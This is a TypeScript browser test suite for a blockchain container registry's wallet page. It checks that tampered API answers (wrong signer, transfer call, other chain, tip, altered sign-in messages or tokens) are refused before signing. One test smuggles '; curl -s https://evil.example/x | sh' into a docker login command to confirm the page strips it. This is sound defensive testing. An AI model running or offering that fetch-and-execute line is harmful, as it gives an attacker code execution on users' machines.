// The page checks what the registry's API built before a wallet sees it. In Chromium against the
// dev chain and the real wallet API, answers of POST /api/calls/{action} are changed on their way
// to the page (another signer, another call, the same call with another argument, another chain,
// a tip), and so are sign-in messages of POST /api/login/message (another registry, a longer
// life): the page refuses each in words and the wallet is never asked to sign. Untouched answers
// for all four actions and the docker login are signed, so the page's own encoding of each call
// is the runtime's (also checked against polkadot.js and the chain's metadata without a browser).
import assert from 'node:assert/strict';
import { after, before, describe, test } from 'node:test';
import type { KeyringPair } from '@polkadot/keyring/types';
import { u8aToHex } from '@polkadot/util';
import type { Page } from 'playwright-core';
import { addProxy, addSpaceMember, createSpace, removeProxy, signerFromUri } from '../../src/chain';
import { callBytes } from '../../src/web/call-bytes';
import { startWalletApiServer, type WalletApiServer } from '../../src/wallet-api';
import { startTestChain, type TestChain } from '../helpers/devnet';
import { browserSkipReason, launchChromium, type TestBrowser } from './helpers/browser';
import { injectIntoChromium, type TestWallet, testWallet } from './helpers/test-wallet';
import { alterJsonAnswers, openConnected, refusedCreate as refusedCreateCall } from './helpers/altered-answers';

type Payload = Record<string, unknown>;

describe('the page\'s encoding of the four calls', () => {
  let chain: TestChain;
  before(async () => {
    chain = await startTestChain();
  });
  after(async () => {
    await chain?.close();
  });

  test('is byte for byte what polkadot.js builds from the chain\'s metadata', async () => {
    const [dave, gateway] = await Promise.all([signerFromUri('//Dave'), signerFromUri('//Gateway')]);
    const api = chain.api;
    const big = ((1n << 128n) - 2n).toString();
    assert.equal(u8aToHex(callBytes({ action: 'create-space', name: 'my-team.v2' })), createSpace(api, 'my-team.v2').method.toHex());
    assert.equal(u8aToHex(callBytes({ action: 'add-member', spaceId: '7', member: dave.address })), addSpaceMember(api, '7', dave.address).method.toHex());
    assert.equal(u8aToHex(callBytes({ action: 'add-member', spaceId: big, member: dave.address })), addSpaceMember(api, big, dave.address).method.toHex());
    assert.equal(u8aToHex(callBytes({ action: 'grant-gateway', gateway: gateway.address })), addProxy(api, gateway.address, 'NonTransfer', 0).method.toHex());
    assert.equal(u8aToHex(callBytes({ action: 'revoke-gateway', gateway: gateway.address })), removeProxy(api, gateway.address, 'NonTransfer', 0).method.toHex());
  });
});

describe('a tampered call answer in Chromium', { skip: browserSkipReason() }, () => {
  let chain: TestChain;
  let server: WalletApiServer;
  let browser: TestBrowser;
  let wallet: TestWallet;
  let page: Page;
  let dave: KeyringPair;
  let eve: KeyringPair;
  /** Changes the payload of the next call answers; undefined leaves them as the API sent them. */
  let tamper: ((payload: Payload) => void) | undefined;
  /** Changes the next sign-in messages. */
  let tamperLogin: ((message: string) => string) | undefined;
  /** Changes the next docker logins the API hands back for a signed message. */
  let tamperToken: ((login: { token: string; command: string }) => void) | undefined;

  const progress = (name: string) => page.locator(`.progress[data-for="${name}"]`);

  /** Submits the create-space form with `name` and waits for the refusal, which must hold `expected`. */
  const refusedCreate = (name: string, expected: RegExp) => refusedCreateCall(page, wallet, name, 'not the one you asked for', expected);

  before(async () => {
    chain = await startTestChain();
    server = await startWalletApiServer({ api: chain.api, port: 0, txTimeoutMs: 60_000 });
    [dave, eve] = await Promise.all([signerFromUri('//Dave'), signerFromUri('//Eve')]);
    dave.setMeta({ name: 'Dave' });
    eve.setMeta({ name: 'Eve' });
    browser = await launchChromium();
    wallet = testWallet(chain.api, [dave, eve]);
    await injectIntoChromium(browser.context, wallet);
    page = await browser.context.newPage();
    page.on('pageerror', (error) => console.error(`page error: ${error.message}`));
    // The answer as a proxy between the page and the API could change it.
    await alterJsonAnswers<{ payload: Payload }>(page, '**/api/calls/*', (body) => tamper?.(body.payload));
    await alterJsonAnswers<{ message: string }>(page, '**/api/login/message', (body) => {
      if (tamperLogin) body.message = tamperLogin(body.message);
    });
    await alterJsonAnswers<{ token: string; command: string }>(page, '**/api/login/token', (body) => tamperToken?.(body));
    await openConnected(page, server.url, dave.address);
  });

  after(async () => {
    await browser?.close();
    await server?.close();
    await chain?.close();
  });

  test('a payload naming another account of the wallet is not signed', { timeout: 60_000 }, async () => {
    tamper = (payload) => (payload.address = eve.address);
    await refusedCreate('acme', new RegExp(`it would be signed by ${eve.address}, not by the account you picked \\(${dave.address}\\)`));
  });

  test('a payload calling a transfer instead is not signed', { timeout: 60_000 }, async () => {
    const transfer = chain.api.tx.balances.transferKeepAlive(eve.address, 10n ** 18n).method.toHex();
    tamper = (payload) => (payload.method = transfer);
    await refusedCreate('acme', /it calls Balances \(pallet 6, call \d+\), not ContainerRegistry\.create_space/);
  });

  test('the same call with another space name is not signed', { timeout: 60_000 }, async () => {
    const other = createSpace(chain.api, 'acme2').method.toHex();
    tamper = (payload) => (payload.method = other);
    await refusedCreate('acme', /it calls ContainerRegistry\.create_space with other arguments than yours/);
  });

  test('a payload for another chain is not signed', { timeout: 60_000 }, async () => {
    tamper = (payload) => (payload.genesisHash = `0x${'11'.repeat(32)}`);
    await refusedCreate('acme', /it is for another chain \(genesis 0x1111/);
  });

  test('a payload adding a tip is not signed', { timeout: 60_000 }, async () => {
    tamper = (payload) => (payload.tip = '0x00000000000000000de0b6b3a7640000');
    await refusedCreate('acme', /it adds a tip of 0x0+de0b6b3a7640000 to the fee/);
  });

  test('a gateway grant naming another delegate is not signed', { timeout: 60_000 }, async () => {
    // A NonTransfer proxy for someone else would let them record anything in the space.
    const grant = addProxy(chain.api, eve.address, 'NonTransfer', 0).method.toHex();
    tamper = (payload) => (payload.method = grant);
    const asked = wallet.requests.length;
    await page.getByRole('button', { name: 'Grant gateway access' }).click();
    await progress('gateway').getByRole('alert').filter({ hasText: 'it calls Proxy.add_proxy with other arguments than yours' }).waitFor();
    assert.equal(wallet.requests.length, asked, 'the wallet was asked to sign');
  });

  /** Asks for a docker login and waits for the refusal, which must hold `expected`. */
  async function refusedLogin(expected: RegExp): Promise<void> {
    const asked = wallet.requests.length;
    await page.getByRole('button', { name: 'Get docker login' }).click();
    const alert = page.locator('#login-result [role="alert"]');
    await alert.filter({ hasText: 'not this registry\'s' }).waitFor();
    const text = await alert.innerText();
    assert.match(text, expected);
    assert.match(text, /Nothing was signed\./);
    assert.equal(wallet.requests.length, asked, 'the wallet was asked to sign');
  }

  test('a sign-in message for another registry is not signed', { timeout: 60_000 }, async () => {
    const host = new URL(server.url).host;
    tamperLogin = (message) => message.replace(host, 'registry.example.com');
    await refusedLogin(new RegExp(`it signs you in to registry\\.example\\.com, not to ${host.replace(/\./g, '\\.')}`));
  });

  test('a sign-in message valid for longer than asked is not signed', { timeout: 60_000 }, async () => {
    tamperLogin = (message) => message.replace(/Expiration Time: .*$/, `Expiration Time: ${new Date(Date.now() + 30 * 86_400_000).toISOString()}`);
    await refusedLogin(/it is valid from \S+ to \S+, not for 12 hours/);
  });

  test('a sign-in message for another account is not signed', { timeout: 60_000 }, async () => {
    tamperLogin = (message) => message.replace(dave.address, eve.address);
    await refusedLogin(new RegExp(`it signs in ${eve.address}, not the account you picked`));
  });

  test('a docker login answer whose command runs more is shown as the page builds it', { timeout: 60_000 }, async () => {
    tamperLogin = undefined;
    tamperToken = (login) => (login.command = `${login.command}; curl -s https://evil.example/x | sh`);
    await page.getByRole('button', { name: 'Get docker login' }).click();
    const command = page.locator('#login-result .copyable code');
    await command.waitFor();
    assert.match(await command.innerText(), new RegExp(`^printf '%s' 'hcr1\\.[\\w.-]+' \\| docker login ${new URL(server.url).host.replace(/\./g, '\\.')} --username ${dave.address} --password-stdin$`));
  });

  test('a docker login answer with another password is not shown', { timeout: 60_000 }, async () => {
    tamperToken = (login) => (login.token = `${login.token.slice(0, -4)}AAAA`);
    await page.getByRole('button', { name: 'Get docker login' }).click();
    const alert = page.locator('#login-result [role="alert"]');
    await alert.filter({ hasText: 'not the one you signed' }).waitFor();
    assert.match(await alert.innerText(), /its password is not the sign-in message your wallet signed\. No login is shown\./);
    assert.equal(await page.locator('#login-result [data-token]').count(), 0);
    tamperToken = undefined;
  });

  test('untouched answers for all four actions and the docker login are signed', { timeout: 240_000 }, async () => {
    tamperLogin = undefined;
    tamper = undefined;
    // Only the docker logins above were signed before (their messages were this registry's).
    const earlier = wallet.requests.length;
    await page.getByLabel('Space name').fill('acme');
    await page.getByRole('button', { name: 'Create space' }).click();
    await progress('create-space').locator('[data-step="finalized"].done').waitFor({ timeout: 60_000 });
    await page.locator('#account-space', { hasText: 'acme' }).waitFor();
    await page.getByLabel('Member address (SS58)').fill(eve.address);
    await page.getByRole('button', { name: 'Add member' }).click();
    await progress('add-member').locator('[data-step="finalized"].done').waitFor({ timeout: 60_000 });
    await page.getByRole('button', { name: 'Grant gateway access' }).click();
    await page.locator('#account-gateway', { hasText: 'may record your pushes' }).waitFor({ timeout: 60_000 });
    await page.getByRole('button', { name: 'Revoke gateway access' }).click();
    await page.locator('#account-gateway', { hasText: 'not granted' }).waitFor({ timeout: 60_000 });
    await page.getByRole('button', { name: 'Get docker login' }).click();
    await page.locator('#login-result [data-token]').waitFor({ state: 'attached' });
    assert.deepEqual(wallet.requests.slice(earlier).map((r) => [r.kind, r.address]), [...Array(4).fill(['payload', dave.address]), ['raw', dave.address]]);
  });
});
